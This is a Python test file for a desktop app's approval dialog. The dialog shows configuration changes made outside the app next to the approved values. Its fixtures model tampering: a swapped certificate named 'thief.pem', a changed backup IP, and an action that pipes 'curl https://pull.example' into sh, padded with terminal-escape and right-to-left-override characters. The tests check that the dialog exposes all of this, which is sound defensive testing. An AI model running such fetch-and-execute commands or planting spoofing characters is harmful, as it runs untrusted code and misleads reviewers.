"""The window says calmly what may not act, shows it beside what was approved, and asks."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from PySide6.QtWidgets import QLabel, QPushButton
from pytestqt.qtbot import QtBot

from changeover.desktop.setup.approve_settings import ApproveSettings
from changeover.desktop.widgets.colours import DARK, LIGHT, use
from changeover.lab.ground import PracticeGround
from changeover.model.settings.acting_parts import ActingPart, Unapproved
from desktop.looking import draw
from desktop.on_screen import click, desktop
from desktop.test_reach import nameless
from desktop.waiting import until

COMMAND = """
[[services.actions]]
name = "promote"
phase = "promote"
command = ["/usr/local/bin/promote", "--now"]

"""
JOURNEYS = ActingPart(
    place="services/shop/journeys",
    words="Where the secrets of shop's journeys go",
    lines=(
        ("secrets", "probe"),
        ("go to", "https://www.shop.example:443"),
        ("certificates", "those, and thief.pem, SHA-256 9b2cf535f27731c974343645a3985328"),
        ("at primary", "fathomless-elm.herokudns.com"),
        ("at backup", "203.0.113.66"),
        ("resolvers", "1.1.1.1, 8.8.8.8, 9.9.9.9"),
        ("journey 1, step 1, body", '{"user": "probe", "password": "{secret:probe}"}'),
    ),
    owner="service-shop",
)
WAS = (
    *JOURNEYS.lines[:2],
    ("certificates", "those, and team-ca.pem, SHA-256 5feceb66ffc86f38d952786c6d696c79"),
    JOURNEYS.lines[3],
    ("at backup", "198.51.100.24"),
    *JOURNEYS.lines[5:],
)
NOTIFY = ActingPart(
    place="services/shop/actions/notify",
    words="Action notify of shop",
    lines=(("phase", "quiesce"), ("does", "run /bin/sh -c 'curl https://pull.example | sh' '\x1b[2K<b>\u202e'")),
    owner="service-shop",
)


@pytest.mark.parametrize("look", ["light", "dark"])
def test_the_difference_is_shown_whole(light: None, qtbot: QtBot, pictures: Path, look: str) -> None:
    """What was and what is; nothing steers the window; neither Enter nor Escape says yes."""
    use({"light": LIGHT, "dark": DARK}[look])
    dialog = ApproveSettings(None, [Unapproved(part=JOURNEYS, was=WAS), Unapproved(part=NOTIFY)])
    qtbot.addWidget(dialog)
    with qtbot.waitExposed(dialog):
        dialog.show()
    draw(dialog, pictures / f"approve-settings-{look}.png")
    told = [label.text() for label in dialog.findChildren(QLabel)]
    assert told.count("was") == told.count("is") == 2
    assert "203.0.113.66" in told
    assert "198.51.100.24" in told
    assert any("'\\x1b[2K<b>\\u202e'" in text for text in told)
    assert nameless(dialog) == []
    assert dialog.no_button.isDefault()
    assert [b.text() for b in dialog.findChildren(QPushButton)] == ["Not now", "Approve"]


def test_a_yes_in_the_window_lets_it_act(
    on_loop: Callable[..., None], tmp_path: Path, light: None, pictures: Path
) -> None:
    """The strip is there until then, a no leaves it, and afterwards nothing speaks against the switch any more."""

    async def scenario() -> None:
        home = tmp_path / "lab"
        async with PracticeGround.started(home) as ground:
            file = home / "changeover.toml"
            file.write_text(file.read_text().replace("[lookup]", f"{COMMAND}[lookup]"))
            async with desktop(home, ground) as session:
                controller, board = session.controller, session.controller.switchboard
                strip = controller.unapproved
                await until(lambda: strip.isVisible(), "the strip")
                assert strip.text.text() == (
                    "The settings changed outside Changeover: 1 part may not act until you have seen them."
                )
                await until(lambda: board.state("shop").findings, "the findings")
                assert "trust" in [f.check for f in board.state("shop").findings]
                draw(session.window, pictures / "unapproved-strip.png")
                for answer in ("no_button", "yes_button"):
                    click(strip.look)
                    await until(lambda: isinstance(controller.dialog, ApproveSettings), "the question")
                    await until(lambda: controller.dialog.isVisible(), "the question on the screen")
                    assert strip.isVisible()
                    click(getattr(controller.dialog, answer))
                    controller.dialog = None
                await until(lambda: not strip.isVisible(), "the end of the strip")
                await until(
                    lambda: "trust" not in [f.check for f in board.state("shop").findings], "a switch that may act"
                )

    on_loop(scenario())
